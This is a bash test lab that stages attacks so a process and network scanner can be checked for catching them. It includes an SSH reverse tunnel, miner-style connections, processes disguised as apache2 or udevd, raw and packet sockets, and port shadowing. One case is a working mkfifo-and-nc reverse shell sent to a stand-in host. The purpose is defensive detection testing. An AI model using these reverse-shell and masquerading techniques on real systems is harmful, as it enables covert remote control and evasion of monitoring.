# shellcheck shell=bash
# Attacks, by a process's name for itself, by what its arguments ask for, and by
# servers that have shells.
# shellcheck disable=SC2016,SC2034 # sh -c TEXT; SCAN and FLAG are lab.bash's

# there_sshd: the peer's sshd, on port 2222.
there_sshd()
{
	sshd_config
	peer /usr/sbin/sshd -D -e -f $LAB/sshd_config -p 2222
	until nsenter --net=/run/netns/peer -- prt-scan -qlt 2222; do
		sleep 0.02
	done
}

attack ssh-back tunnel 'ssh -R, out to a public address'
run-ssh-back()
{
	there_sshd
	bg ssh -p 2222 "${SSH[@]}" -fNR 8022:127.0.0.1:22 root@203.0.113.1
	await process=ssh state=ESTABLISHED
}

attack pool miner "a pool's address in a program's arguments"
run-pool()
{
	need perl
	hold 3333
	as www-data perl -MIO::Socket::INET -e '
$s = new IO::Socket::INET(PeerAddr, "203.0.113.1:3333"); sleep 60' \
	    -- -o stratum+tcp://203.0.113.1:3333
	await remote_port=3333 state=ESTABLISHED
}

attack miner-name miner 'a miner, by its name'
run-miner-name()
{
	need perl
	hold 443
	copy perl /opt/mine/xmrig
	as www-data /opt/mine/xmrig -MIO::Socket::INET -e '
$s = new IO::Socket::INET(PeerAddr, "203.0.113.1:443"); sleep 60'
	await remote_port=443 state=ESTABLISHED
}

attack perl-title fake-daemon 'perl by the title of a web server'
run-perl-title()
{
	need perl
	hold 443
	as www-data perl -MIO::Socket::INET -e '$0 = "/usr/sbin/apache2 -k start";
$s = new IO::Socket::INET(PeerAddr, "203.0.113.1:443"); sleep 60'
	await remote_port=443 state=ESTABLISHED 'cmdline~apache2'
}

attack sniffer-title 'fake-daemon packet-socket' 'a sniffer that poses as udev'
run-sniffer-title()
{
	SCAN=("--proto=tcp,udp,packet")
	bg bash -c 'exec -a /sbin/udevd /usr/bin/python3 -c "
import socket, time
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
time.sleep(60)"'
	await proto=packet
}

attack raw-copy renamed-exe 'a copy of python with a raw socket'
run-raw-copy()
{
	SCAN=(-o +@audit "--proto=tcp,udp,raw")
	copy "$(readlink -f /usr/bin/python3)" /opt/tool/check
	bg /opt/tool/check -c 'import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 255); time.sleep(60)'
	await proto=raw
}

attack script-pipe shell-relay 'nc, and a shell on the terminal of script(1)'
run-script-pipe()
{
	need nc.openbsd script mkfifo
	SCAN=(-o +@audit)
	hold 4444
	as www-data sh -c 'mkfifo /tmp/g
SHELL=/bin/sh script -qc /bin/bash /dev/null </tmp/g 2>&1 |
nc.openbsd 203.0.113.1 4444 >/tmp/g'
	await remote_port=4444 state=ESTABLISHED shells!=-
}

attack server-shell shell-relay 'a web server has a shell that waits'
run-server-shell()
{
	need perl
	SCAN=(-o +@audit)
	copy perl /opt/web/nginx
	as www-data /opt/web/nginx -MIPC::Open2 -MIO::Socket::INET -e '
$l = new IO::Socket::INET(LocalAddr, "127.0.0.1:8080", Listen, 1);
open2($out, $in, "/bin/sh"); sleep 60'
	await local_port=8080 shells!=-
}

# reuses PROGRAM ADDR: www-data's program listens on 8080, as others do.
reuses()
{
	case $1 in
	python)
		as www-data /usr/bin/python3 -c 'import socket, sys, time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
s.bind((sys.argv[1], 8080)); s.listen(); time.sleep(60)' "$2" ;;
	perl)
		as www-data perl -MIO::Socket::INET -e '
$l = new IO::Socket::INET(LocalAddr, "$ARGV[0]:8080", Listen, 1,
ReusePort, 1) or die; sleep 60' -- "$2" ;;
	esac
	await local_port=8080 process~"$1" state=LISTEN
}

attack shadow-program port-shadow "another program of a service's user"
run-shadow-program()
{
	need perl
	reuses python 0.0.0.0
	reuses perl 10.0.0.2
}

attack shadow-group port-shadow 'the same, on the very same address'
run-shadow-group()
{
	need perl
	SCAN=(-o +inode)
	reuses python 0.0.0.0
	reuses perl 0.0.0.0
}
